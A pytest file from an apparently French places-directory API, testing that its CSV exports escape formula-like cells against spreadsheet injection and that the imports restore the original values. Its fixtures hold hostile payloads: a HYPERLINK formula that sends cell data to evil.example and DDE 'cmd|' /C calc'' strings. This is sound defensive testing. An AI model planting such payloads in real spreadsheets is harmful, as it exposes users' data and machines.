"""CSV formula injection (issue #14 item 6): every CSV the API writes neutralises formula-like text cells
with the one rule of core/spreadsheet.py, and the imports undo it, so that export -> import is lossless."""

import csv
import io

import httpx
import pytest
from sqlalchemy import text
from sqlalchemy.ext.asyncio import AsyncSession

from reseau_api.ami import service as ami_service
from tests.ami.conftest import csv_file, row
from tests.factories import make_place
from tests.opendata.conftest import comparable, run_import, stored

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Cliquez")'
HOSTILE = {
    "nom": HYPERLINK, "description": "@SUM(1+1)*cmd|' /C calc'!A0", "commune": "-2+3+cmd|' /C calc'!A0",
    "adresse": "+1+cmd|' /C calc'!A0", "accessibilite": "'=déjà échappé", "telephone": "+33 5 61 00 00 00",
    "types": ["coworking", "mediation_numerique"], "services": ["wifi"],
}
ESCAPED = {
    HYPERLINK: "'" + HYPERLINK, "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "'=déjà échappé": "''=déjà échappé",
}


def cells(body: bytes, delimiter: str = ",") -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=delimiter))


@pytest.mark.parametrize("path", ["/v1/lieux?f=csv", "/v1/export/lieux.csv"])
async def test_place_csvs_neutralise_formulas(client: httpx.AsyncClient, session: AsyncSession, path: str) -> None:
    await make_place(session, **HOSTILE)
    (line,) = cells((await client.get(path)).content)
    assert {line[column] for column in ("nom", "description", "commune", "adresse", "accessibilite")} == set(
        ESCAPED.values())
    assert line["telephone"] == "05 61 00 00 00"
    assert line["longitude"] == "1.444209"


async def test_west_of_greenwich_longitudes_stay_numbers(client: httpx.AsyncClient, session: AsyncSession) -> None:
    await make_place(session, nom="Lourdes", departement="65", commune="Lourdes", code_insee="65286",
                     code_postal="65100", position={"lon": -0.0457, "lat": 43.0947})
    (line,) = cells((await client.get("/v1/lieux?f=csv")).content)
    assert line["longitude"] == "-0.045700"


async def test_the_mediation_csv_neutralises_formulas(client: httpx.AsyncClient, session: AsyncSession) -> None:
    await make_place(session, **HOSTILE)
    (line,) = cells((await client.get("/v1/export/mediation-numerique.csv")).content)
    assert line["nom"] == "'" + HYPERLINK
    assert line["telephone"] == "+33561000000"  # digits only: a number, left as the schema wants it


async def test_export_then_import_gives_back_the_original_values(
    client: httpx.AsyncClient, session: AsyncSession,
) -> None:
    await make_place(session, **HOSTILE)
    before = [(p.id, p.version, comparable(p)) for p in await stored(session)]
    body = (await client.get("/v1/export/lieux.csv")).content
    report = await run_import(session, body, filename="lieux.csv", source="transfert")
    assert [r.status for r in report.rows] == ["unchanged"]
    assert [(p.id, p.version, comparable(p)) for p in await stored(session)] == before
    await session.execute(text("DELETE FROM place"))
    again = await run_import(session, body, filename="lieux.csv", source="transfert")
    assert [r.status for r in again.rows] == ["accepted"]
    (place,) = await stored(session)
    assert (place.name, place.description, place.accessibility) == (
        HYPERLINK, "@SUM(1+1)*cmd|' /C calc'!A0", "'=déjà échappé")


async def test_ami_csvs_neutralise_formulas_and_round_trip(client: httpx.AsyncClient, session: AsyncSession) -> None:
    assert (await ami_service.import_csv(session, csv_file([row(intitule=HYPERLINK)]))).applied
    listing = await client.get("/v1/ami/candidatures", params={"f": "csv"})
    (line,) = cells(listing.content, delimiter=";")
    assert line["intitule"] == "'" + HYPERLINK
    report = await ami_service.import_csv(session, listing.content)
    assert report.applied, report.lines()
    exported_again = cells((await client.get("/v1/ami/candidatures", params={"f": "csv"})).content, delimiter=";")
    assert [r["intitule"] for r in exported_again] == ["'" + HYPERLINK]
    one = (await client.get("/v1/ami/candidatures", params={"limit": 1})).json()
    assert one["items"][0]["intitule"] == HYPERLINK
